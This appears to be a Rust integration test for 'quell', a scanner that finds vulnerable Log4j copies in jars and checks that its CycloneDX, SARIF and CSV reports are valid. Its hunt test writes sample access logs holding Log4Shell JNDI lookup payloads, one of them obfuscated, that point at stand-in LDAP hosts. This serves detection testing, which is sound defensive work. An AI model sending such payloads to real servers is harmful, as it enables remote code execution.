//! The document formats (`quell scan --format cyclonedx | cyclonedx-vex | sarif | csv`, `quell hunt
//! --format csv`) as a user produces them, from the real corpus jars, from built fixtures (nesting,
//! shading, mitigation, 1.x, reload4j, declared copies, a path with a comma, quotes and a newline)
//! and from an empty tree, checked twice:
//! - here, in Rust: exit codes, that stdout is exactly one document, the analyses that matter;
//! - by independent tools, through `scripts/check-reports.py`: the official CycloneDX 1.6 and SARIF
//!   2.1.0 JSON schemas, the official CycloneDX Python library reading the BOM back (component and
//!   vulnerability counts), Python's csv module reading the CSV. `scripts/test` installs those
//!   into `target/report-venv` and sets `QUELL_REQUIRE_PY=1`; without it, missing Python packages
//!   skip that half with a loud message.

#![allow(clippy::unwrap_used)]

use std::io::{Cursor, Read, Write};
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipArchive, ZipWriter};

const CORPUS: &str = "../../../shared/corpus/jars";
/// The directory name with everything CSV must quote.
const ODD_DIR: &str = "odd \"dir\", with\nnewline";

fn workspace() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn corpus_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(CORPUS)
}

fn corpus(name: &str) -> Vec<u8> {
    std::fs::read(corpus_dir().join(name)).unwrap_or_else(|e| panic!("corpus jar {name}: {e}"))
}

fn quell() -> Command {
    Command::new(env!("CARGO_BIN_EXE_quell"))
}

fn zip_of(entries: Vec<(String, Vec<u8>, bool)>) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes, stored) in entries {
        let method = if stored { CompressionMethod::Stored } else { CompressionMethod::Deflated };
        writer.start_file(name.as_str(), SimpleFileOptions::default().compression_method(method)).unwrap();
        writer.write_all(&bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

/// Rebuilds a jar, mapping each entry name; `None` drops the entry.
fn rewrite(zip: &[u8], map: impl Fn(&str) -> Option<String>) -> Vec<u8> {
    let mut archive = ZipArchive::new(Cursor::new(zip)).unwrap();
    let mut entries = Vec::new();
    for i in 0..archive.len() {
        let mut file = archive.by_index(i).unwrap();
        let name = file.name().unwrap().to_string();
        if name.ends_with('/') {
            continue;
        }
        let mut bytes = Vec::new();
        file.read_to_end(&mut bytes).unwrap();
        if let Some(name) = map(&name) {
            entries.push((name, bytes, false));
        }
    }
    zip_of(entries)
}

fn write(path: &Path, bytes: &[u8]) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, bytes).unwrap();
}

/// Every kind of copy the documents have to describe.
fn build_fixtures(dir: &Path) {
    let war = |jar: &str, bytes: Vec<u8>| {
        zip_of(vec![
            ("WEB-INF/web.xml".into(), b"<web-app/>".to_vec(), false),
            (format!("WEB-INF/lib/{jar}"), bytes, true),
        ])
    };
    let ear = zip_of(vec![
        ("META-INF/application.xml".into(), b"<application/>".to_vec(), false),
        ("lib/web.war".into(), war("log4j-core-2.14.1.jar", corpus("log4j-core-2.14.1.jar")), false),
        ("lib/admin.war".into(), war("log4j-core-2.17.1.jar", corpus("log4j-core-2.17.1.jar")), false),
    ]);
    write(&dir.join("app.ear"), &ear);
    // Shaded, metadata stripped: only a version range is known.
    let shaded = rewrite(&corpus("log4j-core-2.14.1.jar"), |n| {
        (!n.starts_with("META-INF/")).then(|| n.replacen("org/apache/logging/log4j/core/", "clt/shaded/l/", 1))
    });
    write(&dir.join("vendor-agent.jar"), &shaded);
    // JndiLookup removed: mitigated for CVE-2021-44228 and CVE-2021-45046 only.
    let mitigated =
        rewrite(&corpus("log4j-core-2.14.1.jar"), |n| (!n.ends_with("core/lookup/JndiLookup.class")).then(|| n.into()));
    write(&dir.join("mitigated/log4j-core-2.14.1.jar"), &mitigated);
    // Log4j 1.x with JMSAppender and Chainsaw deleted.
    let trimmed = rewrite(&corpus("log4j-1.2.17.jar"), |n| {
        (!(n.ends_with("net/JMSAppender.class") || n.contains("/chainsaw/"))).then(|| n.into())
    });
    write(&dir.join("legacy/log4j-1.2.17.jar"), &trimmed);
    // reload4j: the 1.x fork with its own pom.
    let mut reload4j = Vec::new();
    let plain = rewrite(&corpus("log4j-1.2.17.jar"), |n| (!n.starts_with("META-INF/maven/")).then(|| n.into()));
    let mut archive = ZipArchive::new(Cursor::new(plain)).unwrap();
    for i in 0..archive.len() {
        let mut file = archive.by_index(i).unwrap();
        let mut bytes = Vec::new();
        file.read_to_end(&mut bytes).unwrap();
        reload4j.push((file.name().unwrap().to_string(), bytes, false));
    }
    reload4j.push((
        "META-INF/maven/ch.qos.reload4j/reload4j/pom.properties".into(),
        b"version=1.2.25\ngroupId=ch.qos.reload4j\nartifactId=reload4j\n".to_vec(),
        false,
    ));
    write(&dir.join("reload4j-1.2.25.jar"), &zip_of(reload4j));
    // Only metadata: a declared copy.
    let declared = zip_of(vec![
        (
            "META-INF/maven/org.apache.logging.log4j/log4j-core/pom.properties".into(),
            b"version=2.14.1\ngroupId=org.apache.logging.log4j\nartifactId=log4j-core\n".to_vec(),
            false,
        ),
        ("a/b/c.class".into(), vec![0xca, 0xfe, 0xba, 0xbe], false),
    ]);
    write(&dir.join("obfuscated.jar"), &declared);
    // A path CSV has to quote, and SARIF has to percent-encode.
    write(&dir.join(ODD_DIR).join("log4j-core-2.15.0.jar"), &corpus("log4j-core-2.15.0.jar"));
}

const SCAN_FORMATS: [(&str, &str); 5] =
    [("json", "jsonl"), ("cyclonedx", "cdx.json"), ("cyclonedx-vex", "vex.json"), ("sarif", "sarif"), ("csv", "csv")];

/// Runs `quell scan` in every format over `paths`, writing `out/NAME.EXT`; checks the exit code and
/// that the JSON documents parse as one value each.
fn scan_all_formats(out: &Path, name: &str, paths: &[PathBuf], code: i32) {
    scan_formats(out, name, paths, code, &SCAN_FORMATS, &[]);
}

/// `scan_all_formats` for some formats, with extra flags (`--inventory`).
fn scan_formats(out: &Path, name: &str, paths: &[PathBuf], code: i32, formats: &[(&str, &str)], flags: &[&str]) {
    for &(format, ext) in formats {
        let output = quell().args(["scan", "--quiet", "--format", format]).args(flags).args(paths).output().unwrap();
        assert_eq!(
            output.status.code(),
            Some(code),
            "quell scan --format {format} ({name}); stderr: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        if ext.ends_with("json") || ext == "sarif" {
            let _: Value = serde_json::from_slice(&output.stdout)
                .unwrap_or_else(|e| panic!("{name}.{ext} is not one JSON document: {e}"));
        }
        std::fs::write(out.join(format!("{name}.{ext}")), &output.stdout).unwrap();
    }
}

fn read_json(path: &Path) -> Value {
    serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap()
}

fn find_component<'a>(components: &'a Value, pred: &dyn Fn(&Value) -> bool) -> Vec<&'a Value> {
    let mut found = Vec::new();
    for c in components.as_array().into_iter().flatten() {
        if pred(c) {
            found.push(c);
        }
        found.extend(find_component(&c["components"], pred));
    }
    found
}

fn hunt(out: &Path, dir: &Path) {
    let access = "203.0.113.9 - - [10/Dec/2021:10:00:00 +0000] \"GET /?q=${jndi:ldap://198.51.100.7:1389/a} HTTP/1.1\" 200 5 \"-\" \"curl/7.68\"\n\
        198.51.100.20 - - [10/Dec/2021:10:00:01 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"${${lower:j}ndi:${lower:l}dap://x.example.com/a,b}\"\n\
        192.0.2.1 - - [10/Dec/2021:10:00:02 +0000] \"GET /index.html HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0\"\n";
    write(&dir.join("access.log"), access.as_bytes());
    write(
        &dir.join("app, \"prod\".log"),
        b"2021-12-10 10:00:03 ERROR Error looking up JNDI resource [ldap://198.51.100.7:1389/a]\n",
    );
    for (summary, format, file) in [
        (false, "json", "logs.hunt.jsonl"),
        (false, "csv", "logs.hunt.csv"),
        (true, "json", "logs.indicators.jsonl"),
        (true, "csv", "logs.indicators.csv"),
    ] {
        let mut command = quell();
        command.args(["hunt", "--format", format]);
        if summary {
            command.arg("--summary");
        }
        let output = command.arg(dir).output().unwrap();
        assert_eq!(output.status.code(), Some(1), "hunt {format}: {}", String::from_utf8_lossy(&output.stderr));
        std::fs::write(out.join(file), &output.stdout).unwrap();
    }
    let mut csv = csv::Reader::from_path(out.join("logs.hunt.csv")).unwrap();
    let headers = csv.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
    assert_eq!(&headers[0], "kind");
    assert!(rows.iter().any(|r| &r[0] == "attempt" && r[7].contains("ldap://198.51.100.7:1389/a")));
    assert!(rows.iter().any(|r| &r[0] == "trace" && r[1].ends_with("app, \"prod\".log")), "{rows:?}");
}

/// The Python interpreter that has the checker's packages: `$QUELL_PYTHON`, else the venv
/// `scripts/test` makes, else `python3`.
fn python() -> PathBuf {
    if let Some(p) = std::env::var_os("QUELL_PYTHON").filter(|p| !p.is_empty()) {
        return p.into();
    }
    let venv = workspace().join("target/report-venv/bin/python");
    if venv.exists() { venv } else { PathBuf::from("python3") }
}

#[test]
fn documents_from_corpus_fixtures_and_empty_tree_pass_the_official_schemas_and_libraries() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    let fixtures = tmp.path().join("fixtures");
    let empty = tmp.path().join("empty");
    std::fs::create_dir_all(&out).unwrap();
    std::fs::create_dir_all(&empty).unwrap();
    std::fs::write(empty.join("README.txt"), "nothing here").unwrap();
    build_fixtures(&fixtures);

    // The packs the scans use: the checker expects one SARIF rule and one CSV column per CVE.
    let rules = quell().args(["rules", "list", "--format", "json"]).output().unwrap();
    assert!(rules.status.success());
    std::fs::write(out.join("rules.json"), &rules.stdout).unwrap();
    scan_all_formats(&out, "corpus", &[corpus_dir()], 1);
    scan_all_formats(&out, "fixtures", std::slice::from_ref(&fixtures), 1);
    scan_all_formats(&out, "empty", &[empty], 0);
    // The inventory: every archive of the fixtures as a component with purl and hashes.
    scan_formats(&out, "inventory", std::slice::from_ref(&fixtures), 1, &SCAN_FORMATS[..2], &["--inventory"]);
    let inventory: Vec<Value> = std::fs::read_to_string(out.join("inventory.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|r| r["kind"] == "component")
        .collect();
    for archive in ["app.ear", "lib/web.war", "vendor-agent.jar"] {
        assert!(
            inventory.iter().any(|c| c["path"]
                .as_array()
                .and_then(|p| p.last())
                .is_some_and(|l| l.as_str().unwrap_or_default().ends_with(archive))),
            "{archive} in {inventory:?}"
        );
    }
    let declared_only =
        inventory.iter().find(|c| c["path"][0].as_str().unwrap_or_default().ends_with("obfuscated.jar"));
    assert_eq!(declared_only.map(|c| c["confidence"].clone()), Some("declared".into()), "classes not found: declared");
    let core = inventory
        .iter()
        .find(|c| c["purl"] == "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1")
        .expect("log4j-core 2.14.1 in the inventory");
    assert_eq!(core["confidence"], "confirmed", "{core}");
    assert_eq!(core["hashes"]["sha256"].as_str().map(str::len), Some(64));
    assert_eq!(core["hashes"]["sha1"].as_str().map(str::len), Some(40));
    hunt(&out, &tmp.path().join("logs"));

    // A scan that cannot run still exits 2 and prints no document.
    let output = quell().args(["scan", "--format", "sarif"]).arg(tmp.path().join("missing")).output().unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(output.stdout.is_empty());

    // The analyses that matter, checked here whatever Python has.
    let bom = read_json(&out.join("fixtures.cdx.json"));
    assert_eq!(bom["specVersion"], "1.6");
    let vulns = bom["vulnerabilities"].as_array().unwrap();
    let refs_of = |id: &str| -> Vec<String> {
        vulns
            .iter()
            .filter(|v| v["bom-ref"] == id)
            .flat_map(|v| v["affects"].as_array().unwrap().iter().map(|a| a["ref"].as_str().unwrap().to_string()))
            .collect()
    };
    let mitigated = format!("log4j-core@{}", fixtures.join("mitigated/log4j-core-2.14.1.jar").display());
    for cve in ["CVE-2021-44228", "CVE-2021-45046"] {
        assert_eq!(refs_of(&format!("{cve}:mitigated")), std::slice::from_ref(&mitigated), "{cve}");
        let v = vulns.iter().find(|v| v["bom-ref"] == format!("{cve}:mitigated")).unwrap();
        assert_eq!(v["analysis"]["state"], "not_affected");
        assert_eq!(v["analysis"]["justification"], "code_not_present");
    }
    assert!(refs_of("CVE-2021-45105:exploitable").contains(&mitigated));
    assert!(refs_of("CVE-2021-44228:resolved").iter().any(|r| r.ends_with("log4j-core-2.17.1.jar")));
    assert!(refs_of("CVE-2021-4104:code_not_present").iter().any(|r| r.ends_with("legacy/log4j-1.2.17.jar")));
    assert!(refs_of("CVE-2019-17571:resolved").iter().any(|r| r.starts_with("reload4j@")));
    let shaded = find_component(&bom["components"], &|c| {
        c["type"] == "library"
            && c["evidence"]["occurrences"][0]["location"].as_str().unwrap().ends_with("vendor-agent.jar")
    });
    assert_eq!(shaded.len(), 1);
    // No metadata, but the release's class bytes pin the version (the Log4j pack's fingerprints).
    assert_eq!(shaded[0]["purl"], "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1");
    let nested = find_component(&bom["components"], &|c| c["name"] == "lib/web.war");
    assert_eq!(nested.len(), 1, "the war is a component nested in the ear");
    assert_eq!(nested[0]["components"][0]["purl"], "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1");
    assert!(!bom["metadata"]["component"]["name"].as_str().unwrap().is_empty(), "the scanned host");

    let sarif = read_json(&out.join("corpus.sarif"));
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    // EXPECTED.tsv: 14 releases affected by all four CVEs, plus 2.12.2 (2), 2.12.3 (1), 2.15.0 (3),
    // 2.16.0 (2), 2.17.0 (1), 2.3.1 (1); log4j 1.2.17 by its five 1.x CVEs.
    assert_eq!(results.len(), 14 * 4 + 2 + 1 + 3 + 2 + 1 + 1 + 5);
    assert_eq!(sarif["runs"][0]["tool"]["driver"]["rules"][0]["properties"]["security-severity"], "10.0");

    let mut csv = csv::Reader::from_path(out.join("fixtures.csv")).unwrap();
    let headers = csv.headers().unwrap().clone();
    let path_column = headers.iter().position(|h| h == "path").unwrap();
    let rows: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
    let jsonl = std::fs::read_to_string(out.join("fixtures.jsonl")).unwrap();
    assert_eq!(rows.len(), jsonl.lines().filter(|l| l.contains("\"kind\":\"finding\"")).count());
    let odd = fixtures.join(ODD_DIR).join("log4j-core-2.15.0.jar").display().to_string();
    assert!(rows.iter().any(|r| r[path_column] == odd), "the odd path reads back exactly: {rows:?}");

    // The independent half.
    let python = python();
    let script = workspace().join("scripts/check-reports.py");
    let deps = Command::new(&python).arg(&script).arg("--check-deps").output();
    let ready = deps.as_ref().is_ok_and(|o| o.status.success());
    if !ready {
        let why = match &deps {
            Ok(o) => String::from_utf8_lossy(&o.stderr).into_owned(),
            Err(e) => format!("{}: {e}", python.display()),
        };
        if std::env::var_os("QUELL_REQUIRE_PY").is_some_and(|v| !v.is_empty()) {
            panic!("QUELL_REQUIRE_PY is set but the report checker cannot run: {why}");
        }
        eprintln!(
            "\n!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!\n\
             !!! SKIPPED: schema and CycloneDX-library checks of the report documents.\n\
             !!! {why}\
             !!! Run scripts/test (it installs them into target/report-venv), or set QUELL_PYTHON.\n\
             !!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!\n"
        );
        return;
    }
    let checked = Command::new(&python).arg(&script).arg(&out).output().unwrap();
    let report = String::from_utf8_lossy(&checked.stdout);
    eprintln!("{report}{}", String::from_utf8_lossy(&checked.stderr));
    assert!(checked.status.success(), "check-reports.py failed:\n{report}");
    assert!(report.contains("15 documents checked, 0 failures"), "{report}");
}
